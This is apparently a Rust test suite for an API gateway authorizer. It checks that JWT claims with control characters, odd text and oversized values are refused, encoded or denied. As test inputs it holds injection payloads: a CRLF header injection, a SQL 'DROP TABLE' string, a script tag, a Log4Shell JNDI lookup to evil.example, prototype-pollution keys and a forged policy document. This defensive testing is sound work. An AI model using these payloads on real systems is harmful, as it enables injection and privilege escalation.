//! Class 10: identities that could cause harm in a gateway, a log or a service.
//!
//! A value that could count as several values or end a line is refused, or encoded if it is a group. All
//! other values must arrive as JSON strings. An identity that is too large is denied, not cut. `answer.rs`
//! checks each answer for that.

use authorizer::{DenyReason, TokenError};
use serde_json::{Value, json};
use testkit::authorizer_event::connect_event;
use testkit::issuer::{KEY, with};

use super::fixture::{claims_with, signed};
use super::table::Expected::{self, Allow, Deny};
use super::table::{Case, Class, bad};

pub(super) fn cases() -> Vec<Case> {
    [line_ends(), odd_texts(), odd_names(), sizes()].into_iter().flatten().collect()
}

fn case(name: impl Into<String>, claims: &Value, expected: Expected, why: &'static str) -> Case {
    Class::Context.case(name, signed(claims), expected, why)
}

fn line_ends() -> Vec<Case> {
    let why = "a control character could end a header or a line of the log; no pool has such names";
    let mut cases = Vec::new();
    for (name, text) in [
        ("CR and LF", "ann\r\nX-Groups: admins"),
        ("LF", "ann\n"),
        ("NUL", "ann\0"),
        ("ESC", "\u{1b}[2Jann"),
        ("DEL", "ann\u{7f}"),
        ("NEL", "ann\u{85}"),
    ] {
        for claim in ["sub", "username", "jti"] {
            let expected = bad(TokenError::Claim(claim));
            cases.push(case(format!("{name} in {claim}"), &claims_with(claim, json!(text)), expected, why));
        }
        let groups = claims_with("cognito:groups", json!(["staff", text]));
        let encoded = "a group of a federated user may hold it: it is told percent-encoded";
        cases.push(case(format!("{name} in a group"), &groups, Allow, encoded));
        let scope = claims_with("scope", json!(format!("a {text}")));
        cases.push(case(format!("{name} in scope"), &scope, bad(TokenError::Claim("scope")), why));
    }
    cases
}

fn odd_texts() -> Vec<Case> {
    let why = "it is a text like any other, and JSON can write it";
    let mut cases = Vec::new();
    for (name, text) in [
        ("quotes", "\"},\"groups\":\"admins\",\"x\":{\""),
        ("backslashes", "\\\\\\\" \\u0000"),
        ("an apostrophe", "O'Brien'; DROP TABLE users; --"),
        ("markup", "<script>alert(1)</script>"),
        ("a lookup", "${jndi:ldap://evil.example/a}"),
        ("a pattern", "arn:aws:execute-api:*:*:*"),
        ("letters beyond ASCII", "\u{e9}\u{4e2d}\u{1f600}"),
        ("letters from right to left", "\u{202e}nimda"),
        ("a line separator", "a\u{2028}b\u{2029}c"),
        ("__proto__", "__proto__"),
        ("nothing but spaces", "   "),
    ] {
        for claim in ["sub", "username", "jti"] {
            cases.push(case(format!("{name} in {claim}"), &claims_with(claim, json!(text)), Allow, why));
        }
    }
    cases
}

fn odd_names() -> Vec<Case> {
    let mut cases = Vec::new();
    let why = "it is a name like any other, and grants nothing";
    for group in
        ["__proto__", "constructor", "\"", "\\", "staff,admins", "[admins]", "null", "*", "\u{1f600}"]
    {
        let claims = claims_with("cognito:groups", json!(["staff", group]));
        cases.push(case(format!("a group {group}"), &claims, Allow, why));
        let claims = claims_with("scope", json!(format!("a {group}")));
        cases.push(case(format!("a scope {group}"), &claims, Allow, why));
    }
    let why = "a claim that nobody reads gets no further";
    for (name, value) in [
        ("__proto__", json!({ "groups": "admins" })),
        ("constructor", json!("x")),
        ("context", json!({ "groups": ["admins"] })),
        ("groups", json!("admins")),
        ("policyDocument", json!({ "Statement": [{ "Effect": "Allow", "Resource": "*" }] })),
        ("principalId", json!("root")),
    ] {
        cases.push(case(format!("a claim {name}"), &claims_with(name, value), Allow, why));
    }
    cases
}

fn groups_of(name: &str) -> Value {
    claims_with("cognito:groups", json!(["staff", name]))
}

fn sizes() -> Vec<Case> {
    let fits = "it fits, so it is told whole";
    let cut = "what does not fit is denied: a shorter identity would not be the bearer's";
    let groups = |count: usize, width: usize, more: &[&str]| {
        let groups =
            (0..count).map(|n| format!("{n:0width$x}")).chain(more.iter().map(|&name| name.to_owned()));
        claims_with("cognito:groups", json!(groups.collect::<Vec<_>>()))
    };
    let long = |claim: &str, text: &str, times: usize| claims_with(claim, json!(text.repeat(times)));
    let scopes = |times: usize| json!(vec!["orders/read"; times].join(" "));
    let both = with(with(groups(0, 1, &["staff"]), "sub", json!("\"".repeat(512))), "scope", scopes(460));
    let of_web_socket = |name: &str, claims: &Value, expected, why| {
        Class::Context.case(
            format!("{name}, at a WebSocket API"),
            connect_event(&KEY.token(claims)),
            expected,
            why,
        )
    };
    let too_large = Deny(DenyReason::IdentityTooLarge);
    vec![
        case("1,000 groups", &groups(1_000, 3, &["staff"]), Allow, fits),
        of_web_socket("1,000 groups", &groups(1_000, 3, &["staff"]), Allow, fits),
        case("600 groups beside few routes", &groups(600, 8, &["staff"]), Allow, fits),
        case("no more groups beside many routes", &groups(0, 8, &["wide"]), Allow, fits),
        case("600 groups beside many routes", &groups(600, 8, &["wide"]), Allow, fits),
        case("100 groups of 60 letters", &groups(100, 60, &["wide"]), Allow, fits),
        of_web_socket("100 groups of 60 letters", &groups(100, 60, &["staff"]), Allow, fits),
        of_web_socket("a group of 2,600 spaces", &groups_of(&" ".repeat(2_600)), too_large, cut),
        case(
            "600 groups that grant nothing",
            &groups(600, 8, &[]),
            Deny(DenyReason::NoRule),
            "no rule names them",
        ),
        case("a group of 5,000 letters", &groups(1, 5_000, &["staff"]), Allow, fits),
        case("a group of 5,000 letters beside many routes", &groups(1, 5_000, &["wide"]), Allow, fits),
        case("a group of 5,000 spaces", &groups_of(&" ".repeat(5_000)), Allow, fits),
        case("400 scopes", &claims_with("scope", scopes(400)), Allow, fits),
        case("460 scopes and quotes", &both, Allow, fits),
        of_web_socket("460 scopes and quotes", &both, too_large, cut),
        case("a user name of 512 bytes", &long("username", "a", 512), Allow, fits),
        case("a user name of 512 quotes", &long("username", "\"", 512), Allow, fits),
        case("a user name of 128 signs", &long("username", "\u{1f600}", 128), Allow, fits),
        case(
            "a user name of 513 bytes",
            &long("username", "a", 513),
            bad(TokenError::Claim("username")),
            "no pool has such a name",
        ),
        case(
            "a subject of 5,000 bytes",
            &long("sub", "a", 5_000),
            bad(TokenError::Claim("sub")),
            "no pool has such a name",
        ),
        case(
            "a token id of 5,000 bytes",
            &long("jti", "a", 5_000),
            bad(TokenError::Claim("jti")),
            "no pool has such an id",
        ),
        case(
            "a claim of 6,000 bytes that nobody reads",
            &long("custom:x", "a", 6_000),
            Allow,
            "it gets no further",
        ),
    ]
}
